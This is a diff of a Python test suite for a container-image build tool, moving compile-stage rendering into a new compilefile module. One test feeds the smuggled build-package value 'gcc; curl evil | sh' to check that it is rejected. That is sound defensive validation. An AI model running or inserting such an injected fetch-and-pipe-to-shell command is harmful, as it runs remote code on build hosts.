@@ -16,7 +16,7 @@ from test_escape import buildkit_words
 from containerize import config, reference, syspackages
 from containerize.engine import buildx
 from containerize.errors import ConfigError
-from containerize.image import buildcache, dockerfile, layerfolders, layers, pins, plan
+from containerize.image import buildcache, compilefile, dockerfile, layerfolders, layers, pins, plan
 from containerize.platforms import LINUX_AMD64, LINUX_ARM64, Platform
 from containerize.resolve.wheelhouse import Needs
 
@@ -316,14 +316,14 @@ def test_build_tools_only_where_an_sdist_needs_them(hello: config.Config) -> Non
     final = stage(text, "mod_wsgi")
     assert "apache2 libpython3.11" in final
     assert "apt-get" not in stage(text, "gunicorn")
-    compiling = dockerfile.render_compile(p)
+    compiling = compilefile.render_compile(p)
     assert "apache2-dev gcc libc6-dev python3-dev" in stage(compiling, "compile")
 
 
 def test_sdists_compile_on_the_target_platform_from_a_native_build_env(
     hello: config.Config,
 ) -> None:
-    text = dockerfile.render_compile(make(hello))
+    text = compilefile.render_compile(make(hello))
     env = stage(text, "build-env")
     assert env.startswith("FROM --platform=${BUILDPLATFORM} ${BASE_IMAGE} AS build-env")
     assert "--with pip build-env.json" in env
@@ -702,7 +702,7 @@ def test_hostile_server_stage_values(hello: config.Config) -> None:
         layerfolders.write(replace(p, servers=(bad,)), [Path("/nonexistent/linux-amd64")])
     bad = replace(gunicorn, build_packages=("gcc; curl evil | sh",))
     with pytest.raises(ConfigError, match="not a Debian package"):
-        dockerfile.render_compile(replace(p, servers=(bad,)))
+        compilefile.render_compile(replace(p, servers=(bad,)))
 
 
 def test_python_path_cannot_become_a_run_flag(hello: config.Config) -> None:
@@ -816,7 +816,7 @@ def test_well_known_build_packages_compile_an_sdist(hello: config.Config) -> Non
     assert [(b.name, b.packages, b.origin) for b in p.sdist_builds] == [
         ("psycopg2", ("libpq-dev",), "well-known")
     ]
-    compiling = stage(dockerfile.render_compile(p), "compile")
+    compiling = stage(compilefile.render_compile(p), "compile")
     assert "apache2-dev gcc libc6-dev libpq-dev python3-dev" in compiling
     assert "--system-package libpq-dev" in compiling
     # Nothing is known about run time before the compile: no apt in the runtime stage.
@@ -841,7 +841,7 @@ def test_declared_packages_replace_the_table_and_reach_the_runtime_stage(
     }
     p = make(cfg, **needs)
     assert [(b.packages, b.origin) for b in p.sdist_builds] == [((), "declared")]
-    compiling = stage(dockerfile.render_compile(p), "compile")
+    compiling = stage(compilefile.render_compile(p), "compile")
     assert "libpq-dev" not in compiling
     assert "apache2-dev gcc libc6-dev libfoo-dev python3-dev" in compiling
     runtime = stage(dockerfile.render(p), "runtime")
